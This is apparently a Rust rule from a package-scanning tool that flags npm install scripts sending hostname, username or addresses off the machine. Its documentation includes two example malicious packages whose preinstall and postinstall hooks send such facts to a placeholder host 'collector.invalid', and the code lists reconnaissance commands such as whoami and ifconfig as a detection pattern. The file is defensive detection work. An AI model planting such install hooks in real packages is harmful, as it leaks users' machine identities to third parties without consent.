//! # Facts of the machine leave it at install
//!
//! While the package is installed, the name of the machine or its user, or its addresses, reach a request,
//! a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! This is how a package of a company's private name tells its maker whose machine it ran on, and how
//! thieves count victims.
//!
//! ## Known benign uses
//!
//! Telemetry counts with a random or hashed id, and not while something is installed.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "99.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os"), https = require("https");
//! const facts = JSON.stringify({ machine: os.hostname(), user: os.userInfo().username, folder: __dirname });
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(facts); //~ here
//! request.end();
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "99.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! const who = execSync("whoami").toString().trim();
//! fetch("https://collector.invalid/" + who); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os"), crypto = require("crypto");
//! const id = crypto.createHash("sha256").update(os.hostname()).digest("hex");
//! fetch("https://downloads.x.example/" + os.platform() + "-" + os.arch(), { headers: { "x-machine": id } });
//! ```
//!
//! ## References
//!
//! - Birsan: Dependency Confusion (February 2021)
//! - Sonatype: sl4x0 (2025)

use crate::prelude::*;

/// Facts of the machine leave it at install.
pub struct HostFactsSentAtInstall;

impl Rule for HostFactsSentAtInstall {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "host-facts-sent-at-install",
            title: "Facts of the machine leave it at install",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::High,
            technique: "T1082",
            covers: &["collect-host-recon", "dependency-confusion", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in
            facts.flows(tells_host, Sink::leaves_machine).filter(|flow| flow.trigger == Trigger::Install)
        {
            found.flow(flow);
        }
    }
}

/// Facts of the machine, by the platform's functions or a command that prints them.
fn tells_host(source: &Source) -> bool {
    const COMMANDS: [&str; 9] =
        ["whoami", "hostname", "uname", "ifconfig", "ipconfig", "systeminfo", "id", "net user", "ip addr"];
    match source {
        Source::HostFact => true,
        Source::CommandOutput(command) => {
            let parts = command.split(['&', '|', ';', '\n']).map(str::trim);
            let is_known = |part: &str| {
                COMMANDS.iter().any(|known| part == *known || part.starts_with(&format!("{known} ")))
            };
            parts.into_iter().any(is_known)
        }
        _ => false,
    }
}
